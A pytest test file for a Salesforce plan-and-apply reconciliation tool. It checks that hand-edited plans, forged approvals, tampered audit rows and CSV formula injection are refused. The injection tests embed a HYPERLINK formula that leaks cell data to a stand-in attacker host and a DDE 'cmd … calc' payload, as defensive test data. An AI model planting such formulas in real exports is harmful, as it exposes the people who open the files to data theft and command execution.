"""Issue 10: what a careful attacker or a hurried admin did at 52bb8be, refused now — against the sandbox org.

Each test writes (or tries to) through unmodified simple-salesforce over HTTPS to the local sandbox org and
asserts on the org's own records and field history, not only on our audit. Fixtures come from test_apply.py.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import stat

import duckdb
import pytest
from click.testing import CliRunner

from conftest import CLAY_HEADER, LEAD_HEADER, csv_text, lead, lead_id, policy_with, write_snapshot
from reconcile.apply import audit
from reconcile import provenance
from reconcile.approval import approval_path, approve
from reconcile.build import build_plan
from reconcile.cli import app
from reconcile.errors import ApplyError, ApprovalError, PlanError, ReconcileError
from reconcile.plan import load_plan, save_plan
from reconcile.planfile import copy_plan
from conftest import client_for, sandbox_env, seed
from test_apply import (
    CM_B,
    CM_C,
    LEAD_E,
    LEAD_F,
    LEAD_G,
    admin_sf,
    audit_rows,
    do_apply,
    history,
    outcome,
    prepared,
    read_csv,
)
from test_apply import org, plans  # noqa: F401  (fixtures)


def edit(plan_path, mutate) -> dict:
    """Hand-edit a plan and recompute its plan_id, as the attacker did."""
    plan = load_plan(plan_path, verify=False)
    mutate(plan)
    return save_plan(plan, plan_path)


def built(plan_path) -> None:
    """Record an edited plan as built (it stands for a rules bug): only the apply-time invariants can stop it."""
    con = duckdb.connect(str(plan_path.parent / "reconcile.duckdb"))
    try:
        provenance.record(con, load_plan(plan_path))
    finally:
        con.close()


def change(plan: dict, rid: str, field: str) -> dict:
    return next(c for c in plan["changes"] if c["record_id"] == rid and c["field"] == field)


def add(plan: dict, c: dict) -> None:
    plan["changes"] = sorted(plan["changes"] + [c], key=lambda c: (c["object"], c["record_id"], c["field"]))


def new_change(obj, rid, field, before, after) -> dict:
    return {
        "object": obj,
        "record_id": rid,
        "field": field,
        "before": before,
        "after": after,
        "rule": "hand_edit",
        "status": "ready",
        "reason": None,
        "reasons": [],
        "evidence": [],
        "campaign_id": None,
        "gbu": None,
    }


def cli(*args, env: dict | None = None):
    return CliRunner().invoke(app, [str(a) for a in args], env=env, catch_exceptions=False)


# ------------------------------------------------------------------------------------------ 1. invariants, live


def test_has_replied_is_never_cleared_even_by_a_plan_that_says_so(org, plans, tmp_path):
    plan_path = plans.copy(tmp_path, "handmade")
    seed(org, plans.snapshot("handmade"))
    edit(plan_path, lambda p: add(p, new_change("CampaignMember", CM_C, "Has_Replied__c", True, False)))
    built(plan_path)
    approve(plan_path, by="Ana Admin")
    res = do_apply(org, plan_path)
    o = outcome(res, CM_C, "Has_Replied__c")
    assert (o["result"], o["error_code"]) == ("refused", "replied_only_false_to_true")
    assert org.org.get("CampaignMember", CM_C)["Has_Replied__c"] is True
    assert (CM_C, "Has_Replied__c") not in history(org)
    assert res.counts == {"applied": 5, "refused": 1}


def test_a_hard_bounce_is_never_cleared_against_the_live_value(org, plans, tmp_path):
    plan_path = plans.copy(tmp_path, "handmade")
    seed(org, plans.snapshot("handmade"))
    edit(plan_path, lambda p: add(p, new_change("Lead", LEAD_G, "external_hard_bounced__c", True, False)))
    built(plan_path)
    approve(plan_path, by="Ana Admin")
    res = do_apply(org, plan_path)
    o = outcome(res, LEAD_G, "external_hard_bounced__c")
    assert (o["result"], o["error_code"]) == ("refused", "hard_bounce_only_false_to_true")
    assert org.org.get("Lead", LEAD_G)["external_hard_bounced__c"] is True
    assert (LEAD_G, "external_hard_bounced__c") not in history(org)


def test_enrichment_overwrite_marked_ready_is_refused_without_a_signed_release(org, plans, tmp_path):
    """The plan claims Lead F's description is a plain ready fill; the live value is not blank and nothing
    releases it, so nothing of it is sent. With a release naming the record, it is written."""
    plan_path = plans.copy(tmp_path, "enrich")
    pol = plans.policy("enrich")
    seed(org, plans.snapshot("enrich"))
    edit(
        plan_path, lambda p: change(p, LEAD_F, "company_description__c").update(status="ready", reason=None, reasons=[])
    )
    built(plan_path)
    approve(plan_path, by="Ana Admin", policy=pol)
    sent: list = []
    res = do_apply(org, plan_path, policy=pol, record=sent)
    o = outcome(res, LEAD_F, "company_description__c")
    assert (o["result"], o["error_code"]) == ("refused", "enrichment_fill_if_blank")
    assert org.org.get("Lead", LEAD_F)["company_description__c"] == "Makes widgets"
    assert (LEAD_F, "company_description__c") not in {(r["id"], k) for batch in sent for r in batch for k in r}
    assert (LEAD_F, "company_description__c") not in history(org)

    approve(
        plan_path,
        by="Ana Admin",
        policy=pol,
        release_records=[LEAD_F],
        release_reason="MARCOM ticket 42",
        replace="release Lead F's description",
    )
    res = do_apply(org, plan_path, policy=pol)
    assert outcome(res, LEAD_F, "company_description__c")["result"] == "applied"
    assert org.org.get("Lead", LEAD_F)["company_description__c"] == "Globex does it all"


def test_a_picklist_value_the_org_does_not_list_as_active_is_refused(org, plans, tmp_path):
    pol = policy_with(
        tmp_path / "pol", replace={'"Sender Originated Bounce"]': '"Sender Originated Bounce", "Maybe Later"]'}
    )
    plan_path = plans.copy(tmp_path, "handmade")
    seed(org, plans.snapshot("handmade"))
    edit(plan_path, lambda p: change(p, CM_C, "ReplyClassification__c").update(after="Maybe Later"))
    built(plan_path)
    approve(plan_path, by="Ana Admin", policy=pol)
    res = do_apply(org, plan_path, policy=pol)
    o = outcome(res, CM_C, "ReplyClassification__c")
    assert (o["result"], o["error_code"]) == ("refused", "inactive_picklist_value")
    assert org.org.get("CampaignMember", CM_C)["ReplyClassification__c"] == "Interested"


# ------------------------------------------------------------------------------------------ 2. plans come from `plan`


def _attack(p):
    """The edits that went through at 52bb8be: an overwrite without release, a reply cleared, gates deleted."""
    change(p, LEAD_F, "company_description__c").update(status="ready", reason=None, reasons=[])
    add(p, new_change("CampaignMember", CM_C, "Has_Replied__c", True, False))
    p["gates"] = []


def test_a_hand_edited_rehashed_plan_is_refused_before_any_write(org, plans, tmp_path):
    plan_path = plans.copy(tmp_path, "enrich")
    pol = plans.policy("enrich")
    seed(org, plans.snapshot("enrich"))
    edit(plan_path, _attack)
    with pytest.raises(PlanError, match="was not built by `reconcile plan`"):
        approve(plan_path, by="Ana Admin", policy=pol)
    r = cli("approve", plan_path, "--by", "Ana Admin", "--policy", pol)
    assert r.exit_code == 1 and r.stderr.startswith("Error: Plan ") and "was not built by `reconcile plan`" in r.stderr
    # an approval carried over from the genuine plan does not help either
    genuine = plans.copy(tmp_path / "genuine", "enrich")
    approve(genuine, by="Ana Admin", policy=pol)
    shutil.copy(approval_path(genuine), approval_path(plan_path))
    with pytest.raises(ReconcileError):
        do_apply(org, plan_path, policy=pol)
    assert not org.org.request_log and not org.org.field_history


def test_a_row_added_to_the_plans_table_by_hand_does_not_make_a_plan_genuine(org, plans, tmp_path):
    plan_path = plans.copy(tmp_path, "handmade")
    plan = edit(plan_path, _attack)
    con = duckdb.connect(str(plan_path.parent / "reconcile.duckdb"))
    con.execute(
        "insert into plans values (?, ?, 'plan', '2026-11-27T06:00:00Z', ?)",
        [plan["plan_id"], provenance.changes_hash(plan), "hmac-sha256:" + "0" * 64],
    )
    con.close()
    with pytest.raises(PlanError, match="does not verify with this machine's signing key"):
        approve(plan_path, by="Ana Admin")


def test_a_plan_built_with_another_signing_key_is_refused_naming_the_key(plans, tmp_path, monkeypatch):
    """Not 'hand-edited': the record is there, signed with the key of the machine that built it."""
    snapshot = plans.snapshot("handmade")
    monkeypatch.setenv("RECONCILE_APPROVAL_KEY", "a" * 64)
    plan_path = tmp_path / "plan.json"
    build_plan(snapshot, out=plan_path, exports=False)
    monkeypatch.setenv("RECONCILE_APPROVAL_KEY", "b" * 64)
    with pytest.raises(PlanError, match="it was built with another one") as e:
        approve(plan_path, by="Ana Admin")
    assert "RECONCILE_APPROVAL_KEY" in str(e.value) and "hand-edited" not in str(e.value)
    monkeypatch.setenv("RECONCILE_APPROVAL_KEY", "a" * 64)
    approve(plan_path, by="Ana Admin")  # the key it was built with


def test_building_the_plan_again_under_the_new_key_is_the_fix_the_refusal_names(plans, tmp_path, monkeypatch):
    snapshot = plans.snapshot("handmade")
    monkeypatch.setenv("RECONCILE_APPROVAL_KEY", "a" * 64)
    plan_path = tmp_path / "plan.json"
    build_plan(snapshot, out=plan_path, exports=False)
    monkeypatch.setenv("RECONCILE_APPROVAL_KEY", "b" * 64)
    with pytest.raises(PlanError, match="build the plan again here"):
        approve(plan_path, by="Ana Admin")
    build_plan(snapshot, out=plan_path, exports=False)  # the same plan_id, recorded again under key b
    approve(plan_path, by="Ana Admin")
    con = duckdb.connect(str(tmp_path / "reconcile.duckdb"), read_only=True)
    assert con.execute("select count(*) from plans").fetchone()[0] == 2  # key a's record kept, key b's added once
    con.close()
    build_plan(snapshot, out=tmp_path / "again.json", db=tmp_path / "reconcile.duckdb", exports=False)
    con = duckdb.connect(str(tmp_path / "reconcile.duckdb"), read_only=True)
    assert con.execute("select count(*) from plans").fetchone()[0] == 2
    con.close()


def test_the_plans_record_survives_a_replan_into_the_same_database(org, plans, tmp_path):
    plan_path, _ = prepared(org, plans, tmp_path, "handmade")
    build_plan(
        plans.snapshot("enrich"), out=plan_path.parent / "other.json", policy=plans.policy("enrich"), exports=False
    )
    assert do_apply(org, plan_path).counts == {"applied": 5}


# ------------------------------------------------------------------------------------------ 3. signed approvals


def test_an_approval_edited_to_another_approver_with_its_hash_recomputed_is_refused(org, plans, tmp_path):
    plan_path, _ = prepared(org, plans, tmp_path, "handmade")
    p = approval_path(plan_path)
    doc = json.loads(p.read_text())
    entry = doc["approvals"][-1]
    entry["approved_by"] = "CFO (forged)"
    body = {k: v for k, v in entry.items() if k != "signature"}
    entry["signature"] = "hmac-sha256:" + hashlib.sha256(json.dumps(body, sort_keys=True).encode()).hexdigest()
    p.write_text(json.dumps(doc))
    with pytest.raises(ApprovalError, match="edited after it was written"):
        do_apply(org, plan_path)
    assert not org.org.field_history


def test_an_approval_signed_with_another_key_is_refused(org, plans, tmp_path, monkeypatch):
    from reconcile import signing

    plan_path, _ = prepared(org, plans, tmp_path, "handmade", fields=["Has_Replied__c"])
    p = approval_path(plan_path)
    doc = json.loads(p.read_text())
    entry = doc["approvals"][-1]
    entry["scope"]["fields"] = "all"
    monkeypatch.setenv("RECONCILE_APPROVAL_KEY", "someone else's key, on their own laptop")
    entry["signature"] = signing.sign(
        "approval",
        {"plan_id": doc["plan_id"], "previous": None, "approval": {k: v for k, v in entry.items() if k != "signature"}},
    )
    monkeypatch.delenv("RECONCILE_APPROVAL_KEY")
    p.write_text(json.dumps(doc))
    with pytest.raises(ApprovalError, match="edited after it was written"):
        do_apply(org, plan_path)
    assert not org.org.field_history


def test_approvers_come_from_the_policy(org, plans, tmp_path):
    plan_path = plans.copy(tmp_path, "handmade")
    r = cli("approve", plan_path, "--by", "CFO (forged)")
    assert r.exit_code == 1
    assert r.stderr.startswith("Error: Approver 'CFO (forged)' is not in the policy's [[approvers]]")
    assert "Demo Admin, Ana Admin" in r.stderr and not approval_path(plan_path).exists()
    a = approve(plan_path, by="  ana   admin ")
    assert (a["approved_by"], a["approver_email"]) == ("Ana Admin", "ana.admin@example.com")


def test_approving_an_approved_plan_needs_a_reason_and_keeps_both(org, plans, tmp_path):
    plan_path, _ = prepared(org, plans, tmp_path, "handmade", fields=["Has_Replied__c"])
    r = cli("approve", plan_path, "--by", "Demo Admin")
    assert r.exit_code == 1 and "is already approved by Ana Admin" in r.stderr and "--replace REASON" in r.stderr
    r = cli("approve", plan_path, "--by", "Demo Admin", "--replace", "widen the scope to all fields")
    assert r.exit_code == 0, r.stderr
    doc = json.loads(approval_path(plan_path).read_text())
    assert [a["approved_by"] for a in doc["approvals"]] == ["Ana Admin", "Demo Admin"]
    assert doc["approvals"][1]["replaces"]["reason"] == "widen the scope to all fields"
    assert do_apply(org, plan_path).counts == {"applied": 5}
    assert {r["approver"] for r in audit_rows(plan_path)} == {"Demo Admin"}
    # removing the older approval from the history breaks the chain of signatures
    doc["approvals"] = doc["approvals"][1:]
    approval_path(plan_path).write_text(json.dumps(doc))
    with pytest.raises(ApprovalError, match="edited after it was written"):
        do_apply(org, plan_path)


def test_the_key_is_created_once_outside_the_plan_folder_readable_only_by_its_owner(signing_key_dir):
    from reconcile import signing

    key = signing.signing_key()
    path = signing.key_path()
    assert path.parent == signing_key_dir and path.exists()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert signing.signing_key() == key
    os.chmod(path, 0o644)
    try:
        with pytest.raises(ReconcileError, match="chmod 600"):
            signing.signing_key()
    finally:
        os.chmod(path, 0o600)


def test_processes_starting_at_once_on_a_fresh_machine_share_one_key(tmp_path):
    """The first run of a day's parallel jobs: each either creates the key or reads the one created; none reads a
    half-written key ('too short') or signs with a key of its own."""
    import subprocess
    import sys
    import time

    folder = tmp_path / "config"
    env = {**os.environ, "RECONCILE_CONFIG_DIR": str(folder)}
    env.pop("RECONCILE_APPROVAL_KEY", None)
    code = (
        "import sys, time\nfrom reconcile import signing\n"
        "while time.time() < float(sys.argv[1]): pass\n"  # imported: all start the key at the same instant
        "print(signing.signing_key().decode())"
    )
    for _ in range(2):  # two fresh machines
        shutil.rmtree(folder, ignore_errors=True)
        start = str(time.time() + 3)
        procs = [
            subprocess.Popen(
                [sys.executable, "-c", code, start], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
            )
            for _ in range(8)
        ]
        results = [p.communicate(timeout=120) for p in procs]
        assert all(p.returncode == 0 for p in procs), [err for _, err in results]
        keys = {out.strip() for out, _ in results}
        assert keys == {(folder / "approval.key").read_text().strip()}
        assert sorted(q.name for q in folder.iterdir()) == ["approval.key"]  # no temporary file left


# ------------------------------------------------------------------------------------------ 4. used once


def test_a_correction_made_after_apply_is_not_overwritten_by_reapplying(org, plans, tmp_path):
    plan_path, _ = prepared(org, plans, tmp_path, "handmade")
    assert do_apply(org, plan_path).counts == {"applied": 5}
    admin_sf(org).CampaignMember.update(CM_C, {"ReplyClassification__c": "Wrong Person"})  # a person corrects it
    mine = len(history(org))
    res = do_apply(org, plan_path)
    o = outcome(res, CM_C, "ReplyClassification__c")
    assert (o["result"], o["current"]) == ("changed_since_apply", "Wrong Person")
    assert res.counts == {"already_applied": 4, "changed_since_apply": 1}
    assert org.org.get("CampaignMember", CM_C)["ReplyClassification__c"] == "Wrong Person"
    assert len(history(org)) == mine


def test_after_an_undo_the_original_approval_writes_nothing_again(org, plans, tmp_path):
    plan_path, _ = prepared(org, plans, tmp_path, "handmade")
    res = do_apply(org, plan_path)
    approve(res.files["undo"], by="Ana Admin")
    assert do_apply(org, res.files["undo"], now=None).counts == {"applied": 5}
    mine = len(history(org))
    again = do_apply(org, plan_path)
    assert again.counts == {"changed_since_apply": 5}
    assert len(history(org)) == mine
    assert org.org.get("Lead", LEAD_E)["external_hard_bounced__c"] is False
    # and the undo plan itself is used once too
    assert set(do_apply(org, res.files["undo"], now=None).counts) <= {"already_applied", "changed_since_apply"}
    assert len(history(org)) == mine


# ------------------------------------------------------------------------------------------ 5. tamper-evident audit


@pytest.mark.parametrize(
    "tamper,named",
    [
        ("update audit set after = 'false' where seq = 3", "audit row seq 3 was changed"),
        ("delete from audit where seq = 3", "audit row seq 4 does not follow"),
        ("delete from audit where seq = (select max(seq) from audit)", "signed head names row seq"),
        ("update audit set approver = 'CFO (forged)'", "audit row seq 1 was changed"),
        ("drop table audit_head", "signed head is missing"),
    ],
)
def test_audit_verify_names_the_first_broken_row_and_apply_refuses_it(org, plans, tmp_path, tamper, named):
    plan_path, _ = prepared(org, plans, tmp_path, "handmade")
    do_apply(org, plan_path)
    db = plan_path.parent / "reconcile.duckdb"
    assert cli("audit", "--db", db, "--verify").exit_code == 0
    con = duckdb.connect(str(db))
    con.execute(tamper)
    con.close()
    r = cli("audit", "--db", db, "--verify")
    assert r.exit_code == 1 and named in r.stderr, r.stderr
    start = len(org.org.request_log)
    with pytest.raises(audit.AuditTampered, match=named):
        do_apply(org, plan_path)
    assert len(org.org.request_log) == start


def test_audit_verify_with_another_machines_key_says_it_may_be_the_key(org, plans, tmp_path):
    plan_path, _ = prepared(org, plans, tmp_path, "handmade")
    do_apply(org, plan_path)
    db = plan_path.parent / "reconcile.duckdb"
    r = cli("audit", "--db", db, "--verify", env={"RECONCILE_APPROVAL_KEY": "another machine's key, 32+ characters"})
    assert r.exit_code == 1 and "was signed with another key than this machine's" in r.stderr, r.stderr


def test_the_audit_table_names_the_plan_of_each_row_and_takes_the_ids_explain_takes(org, plans, tmp_path):
    """SPEC §7: an audit row is plan_id, approver, record, field, before, after, result, error code, time — the
    table shows each (one plan: in the title; several: a column); --record takes a 15-character id and refuses one
    that is no Salesforce id; --plan takes the hex digits the short ids print."""
    from reconcile.files import short_id

    plan_path, _ = prepared(org, plans, tmp_path, "handmade")
    undo = do_apply(org, plan_path).files["undo"]
    approve(undo, by="Ana Admin")
    do_apply(org, undo, now=None)
    db = plan_path.parent / "reconcile.duckdb"
    plan_id, undo_id = load_plan(plan_path)["plan_id"], load_plan(undo)["plan_id"]
    r = cli("audit", "--db", db, "--record", LEAD_E[:15], "--plan", plan_id)
    assert r.exit_code == 0 and f"Audit trail (2 rows) of plan {plan_id}" in r.stdout, r.stdout
    both = cli("audit", "--db", db, "--record", LEAD_E).stdout
    assert both.splitlines()[0].strip() == "Audit trail (4 rows)" and "plan_id" in both, both
    assert both.count(short_id(plan_id)) == 2 and both.count(short_id(undo_id)) == 2, both
    assert cli("audit", "--db", db, "--plan", undo_id[7:19], "--csv").stdout.count(undo_id) == 10
    for typo in ("zzz", "sha256:12g4"):  # not hexadecimal: said, not an empty table
        bad = cli("audit", "--db", db, "--plan", typo)
        assert bad.exit_code == 1 and bad.stdout == "", bad.stdout
        assert bad.stderr.startswith(f"Error: Plan id '{typo.removeprefix('sha256:')}' is not a plan_id or its")
    bad = cli("audit", "--db", db, "--record", "00Q12")
    assert bad.exit_code == 1 and bad.stdout == ""
    assert bad.stderr.startswith("Error: Record id '00Q12' is not a Salesforce id") and bad.stderr.count("\n") == 1


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_chain_survives_a_replan_and_the_csv_export(org, plans, tmp_path):
    plan_path, _ = prepared(org, plans, tmp_path, "handmade")
    do_apply(org, plan_path)
    db = plan_path.parent / "reconcile.duckdb"
    build_plan(plans.snapshot("handmade"), out=plan_path.parent / "again.json", db=db, exports=False)
    assert cli("audit", "--db", db, "--verify").exit_code == 0
    approve(plan_path.parent / "again.json", by="Ana Admin")
    do_apply(org, plan_path.parent / "again.json")
    assert cli("audit", "--db", db, "--verify").exit_code == 0
    out = cli("audit", "--db", db, "--csv").stdout
    rows = list(csv.DictReader(io.StringIO(out)))
    assert (
        len(rows) == 15 and audit.verify_rows(rows, from_csv=True) is None
    )  # the same plan again: 5 × already_applied
    rows[2]["result"] = "failed"
    assert (
        audit.verify_rows(rows, from_csv=True) == f"audit row seq {rows[2]['seq']} was changed after it was written "
        "(its content does not match its hash)"
    )
    # excerpts verify too: the last apply's rows (they follow the earlier applies'), one record's rows (not
    # consecutive: `audit --record`), the plan's own CSV — each row against its hash, the links within each run of
    # consecutive seqs, seq order
    full = list(csv.DictReader(io.StringIO(out)))
    excerpts = {
        "last run": [dict(r) for r in full if r["run_id"] == full[-1]["run_id"]],
        "--record": csv_rows(cli("audit", "--db", db, "--record", full[0]["record_id"], "--csv").stdout),
        "again.audit.csv": csv_rows((plan_path.parent / "again.audit.csv").read_text("utf-8")),
    }
    seqs = [int(r["seq"]) for r in excerpts["--record"]]
    assert int(excerpts["last run"][0]["seq"]) > 1 and seqs[-1] - seqs[0] >= len(seqs) > 1  # a gap between them
    for name, part in excerpts.items():
        assert audit.verify_rows(part, from_csv=True) is None, name
        part[-1]["after"] = "tampered"
        assert "was changed after it was written" in audit.verify_rows(part, from_csv=True), name
    part = [r for r in full if r["run_id"] == full[-1]["run_id"]]
    assert audit.verify_rows(part[::-1], from_csv=True).endswith("(the rows were reordered)")
    assert "does not follow the row before it" in audit.verify_rows(part, from_csv=True, excerpt=False)  # no chain
    del full[7]
    for later in full[7:]:  # a row deleted and the seqs renumbered to hide it: the next link is broken
        later["seq"] = str(int(later["seq"]) - 1)
    assert audit.verify_rows(full, from_csv=True).startswith(f"audit row seq {full[7]['seq']} does not follow")


# ------------------------------------------------------------------------------------------ 6. formula injection

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'


def test_every_csv_neutralises_formulas_and_keeps_numbers(org, tmp_path):
    leads = [lead(1), lead(2, Company="-5"), lead(3, Company="+cmd|' /C calc'!A0")]
    clay = [
        {"LeadId": lead_id(1), "Email": "lead1@example.com", "Company Description": EVIL},
        {"LeadId": lead_id(2), "Email": "lead2@example.com", "Company Description": "@SUM(1+1)"},
    ]
    snap = write_snapshot(
        tmp_path, {"sfdc/Lead.csv": csv_text(LEAD_HEADER, leads), "clay/table.csv": csv_text(CLAY_HEADER, clay)}
    )
    pol = policy_with(
        tmp_path / "pol",
        statuses={"company_description__c": "active"},
        replace={
            'name = "Demo Admin"': 'name = "=cmd|calc"',
            "max_record_fraction = 0.25": "max_record_fraction = 1.0",
            "max_snapshot_age_hours = 48": "max_snapshot_age_hours = 1000000",
        },
    )
    plan_path = tmp_path / "out" / "plan.json"
    build_plan(snap, out=plan_path, policy=pol)
    changes_csv = read_csv(plan_path.with_suffix(".changes.csv"))
    assert {r["after"] for r in changes_csv if r["field"] == "company_description__c"} == {"'" + EVIL, "'@SUM(1+1)"}
    seed(org, snap)
    org.org.set_faults(fail_records={lead_id(2): ("FIELD_CUSTOM_VALIDATION_EXCEPTION", "-1+2 <b>bad</b> | [x](y)", [])})
    approve(plan_path, by="=cmd|calc", policy=pol)
    res = do_apply(org, plan_path, policy=pol)
    assert org.org.get("Lead", lead_id(1))["company_description__c"] == EVIL  # the org gets the real value
    results = read_csv(res.files["results"])
    assert "'" + EVIL in {r["after"] for r in results}
    exc = read_csv(res.files["exceptions_csv"])
    assert {r["message"] for r in exc} == {"'-1+2 <b>bad</b> | [x](y)"}
    md = res.files["exceptions_md"].read_text("utf-8")
    assert "&lt;b&gt;bad&lt;/b&gt; \\| \\[x\\]\\(y\\)" in md and "<b>" not in md
    assert {r["approver"] for r in read_csv(res.files["audit"])} == {"'=cmd|calc"}
    out = cli("audit", "--db", plan_path.parent / "reconcile.duckdb", "--csv").stdout
    assert "'=cmd|calc" in out and ",=cmd" not in out
    # export-members (the file Clay imports): a formula company is neutralised, a number is left alone
    members = tmp_path / "members.csv"
    snap2 = write_snapshot(
        tmp_path,
        {
            "sfdc/Lead.csv": csv_text(LEAD_HEADER, leads),
            "sfdc/CampaignMember.csv": "Id,CampaignId,LeadId,ContactId,Status,Has_Replied__c,"
            "ReplyClassification__c,SystemModstamp\n"
            + "".join(
                f"00v00000000000{i}AAA,701000000000001AAA,{lead_id(i)},,Sent,false,,2026-11-26T09:41:02Z\n"
                for i in (1, 2, 3)
            ),
        },
        name="snap2",
    )
    r = cli("export-members", snap2, "--campaign", "701000000000001", "--out", members)
    assert r.exit_code == 0, r.stderr
    companies = {row["Company"] for row in read_csv(members)}
    assert companies == {"Co 1", "-5", "'+cmd|' /C calc'!A0"}


# ------------------------------------------------------------------------------------------ 7. the apply panel


def test_the_panel_refuses_a_plan_swapped_on_disk_after_review(org, plans, tmp_path):
    from reconcile.notebook.apply_ui import ApplyPanel

    plan_path = plans.copy(tmp_path, "handmade")
    seed(org, plans.snapshot("handmade"))
    panel = ApplyPanel(plan_path, client_factory=lambda: client_for(org))
    # a plan built by `reconcile plan` too, but not the one reviewed
    other = plans.copy(tmp_path / "other", "enrich")
    copy_plan(other, plan_path)
    con = duckdb.connect(str(plan_path.parent / "reconcile.duckdb"))
    provenance.record(con, load_plan(plan_path))
    con.close()
    panel.name.value = "Ana Admin"
    for box in panel.field_boxes.values():
        box.value = not box.disabled
    panel.click_apply()
    assert panel.error and "changed on disk since it was reviewed" in panel.error
    assert not approval_path(plan_path).exists() and not org.org.field_history


def legal_cleared_policy(folder):
    """folder/policy.toml: the default policy with Legal's enrichment fields active and any snapshot age accepted."""
    return policy_with(
        folder,
        statuses={"company_description__c": "active", "Industry": "active"},
        replace={"max_snapshot_age_hours = 48": "max_snapshot_age_hours = 1000000"},
    )


def test_the_panel_shows_where_it_writes_and_uses_the_org_policy(org, plans, tmp_path, monkeypatch):
    from reconcile.notebook.apply_ui import ApplyPanel
    from reconcile.salesforce import connect

    folder = tmp_path / "policies"
    pol = legal_cleared_policy(folder)
    pol.rename(folder / "emea.toml")
    monkeypatch.setenv("RECONCILE_POLICY_DIR", str(folder))
    plan_path = plans.copy(tmp_path, "enrich")
    seed(org, plans.snapshot("enrich"))
    env = {f"SF_EMEA_{k[3:]}": v for k, v in sandbox_env(org).items()}
    panel = ApplyPanel(plan_path, client_factory=lambda: connect(org="EMEA", env=env), org="EMEA")
    head = panel.children[1].value
    assert org.instance_url.split("//")[1] in head and org.org.user("integration").username in head
    assert "emea.toml" in head and "EMEA" in head
    panel.name.value = "Ana Admin"
    for box in panel.field_boxes.values():
        box.value = not box.disabled
    panel.click_apply()
    assert panel.error is None, panel.error
    # under the org's policy the enrichment fills are written, not refused as pending Legal
    assert not [o for o in panel.result.outcomes if o["result"] == "refused"]
    assert org.org.get("Lead", LEAD_E)["Industry"] == "Banking"
    assert (LEAD_E, "Industry") in history(org)


# ------------------------------------------------------------------------------------------ 8. exit codes


def test_apply_exits_1_with_a_summary_when_every_change_was_refused(org, plans, tmp_path):
    plan_path, _ = prepared(org, plans, tmp_path, "handmade")
    # the plan's ready changes under a policy where every field it writes is pending Legal
    strict = policy_with(
        tmp_path / "strict",
        statuses={
            "Has_Replied__c": "pending_legal",
            "ReplyClassification__c": "pending_legal",
            "external_hard_bounced__c": "pending_legal",
        },
        replace={"max_snapshot_age_hours = 48": "max_snapshot_age_hours = 1000000"},
    )
    r = cli("apply", plan_path, "--policy", strict, env=sandbox_env(org))
    assert r.exit_code == 1, r.stdout + r.stderr
    assert "refused 5" in r.stdout and "Not applied: refused 5, failed 0 (by reason: pending_legal 5)" in r.stdout
    assert not history(org)


def test_apply_exits_0_and_lists_drifted_changes(org, plans, tmp_path):
    plan_path, _ = prepared(org, plans, tmp_path, "handmade")
    admin_sf(org).CampaignMember.update(CM_C, {"ReplyClassification__c": "Wrong Person"})
    # the snapshot is from 2026-11-27: give the CLI a policy that accepts its age
    pol = policy_with(tmp_path / "age", replace={"max_snapshot_age_hours = 48": "max_snapshot_age_hours = 1000000"})
    r = cli("apply", plan_path, "--policy", pol, env=sandbox_env(org))
    assert r.exit_code == 0, r.stdout + r.stderr
    assert "drifted 1" in r.stdout and f"drifted: CampaignMember {CM_C} ReplyClassification__c" in r.stdout
    r = cli("apply", plan_path, "--policy", pol, env=sandbox_env(org))
    assert r.exit_code == 0 and "already_applied 4" in r.stdout
    assert CM_B in {h[0] for h in history(org)}


def test_a_fill_whose_blank_field_was_filled_since_the_snapshot_is_drifted_not_refused(org, plans, tmp_path):
    """SPEC §7: a value that changed since the snapshot is `drifted`. Lead E's Industry was blank when planned (a
    plain fill); a person filled it before apply. Nothing of it is written, and it is drift (exit 0, listed), not a
    broken invariant (refused, exit 1), which says a plan asked for an overwrite."""
    folder = tmp_path / "policies"
    pol = legal_cleared_policy(folder)
    plan_path = plans.copy(tmp_path, "enrich")
    seed(org, plans.snapshot("enrich"))
    c = next(c for c in load_plan(plan_path)["changes"] if (c["record_id"], c["field"]) == (LEAD_E, "Industry"))
    assert (c["before"], c["after"], c["status"]) == (None, "Banking", "ready")
    approve(plan_path, by="Ana Admin", policy=pol)
    admin_sf(org).Lead.update(LEAD_E, {"Industry": "Retail"})
    r = cli("apply", plan_path, "--policy", pol, env=sandbox_env(org))
    assert r.exit_code == 0, r.stdout + r.stderr
    assert f"drifted: Lead {LEAD_E} Industry" in r.stdout and "refused" not in r.stdout
    assert org.org.get("Lead", LEAD_E)["Industry"] == "Retail"
    assert (LEAD_E, "Industry") not in history(org)


def test_a_dry_run_checks_the_same_things_and_writes_nothing(org, plans, tmp_path):
    plan_path, _ = prepared(org, plans, tmp_path, "handmade")
    res = do_apply(org, plan_path, dry_run=True)
    assert res.counts == {"would_apply": 5} and not history(org)
    assert not [r for r in org.org.request_log if r["method"] == "PATCH"]
    edit(plan_path, _attack)
    with pytest.raises(ApprovalError, match="the plan changed since it was approved"):
        do_apply(org, plan_path, dry_run=True)
    approval_path(plan_path).unlink()  # a dry run without approval still checks where the plan came from
    with pytest.raises(PlanError, match="was not built by `reconcile plan`"):
        do_apply(org, plan_path, dry_run=True)


def test_a_dry_run_of_a_plan_not_yet_approved_previews_it_and_says_apply_would_refuse_it(org, plans, tmp_path):
    plan_path, _ = prepared(org, plans, tmp_path, "handmade")
    approval_path(plan_path).unlink()
    recent = policy_with(
        tmp_path / "recent", replace={"max_snapshot_age_hours = 48": "max_snapshot_age_hours = 1000000"}
    )
    r = cli("apply", plan_path, "--dry-run", "--policy", recent, env=sandbox_env(org))
    assert r.exit_code == 1, r.stdout + r.stderr
    assert r.stdout.startswith("Dry run plan ") and "would_apply" in r.stdout, r.stdout + r.stderr
    assert (
        "Not approved yet: shown as if every ready change were approved; apply refuses this plan until "
        "`reconcile approve PLAN --by NAME` approves it. Exit status 1."
    ) in r.stdout
    assert not [q for q in org.org.request_log if q["method"] == "PATCH"]


def test_an_apply_refused_prints_its_error_alone_and_nothing_on_stdout(org, plans, tmp_path):
    plan_path, _ = prepared(org, plans, tmp_path, "handmade")
    approval_path(plan_path).unlink()
    start, tokens = len(org.org.request_log), set(org.org.tokens)
    r = cli("apply", plan_path, env={**org.oauth_env(), "SF_CA_BUNDLE": org.ca_bundle})  # client credentials
    assert r.exit_code == 1 and r.stdout == "" and r.stderr.startswith("Error: "), (r.stdout, r.stderr)
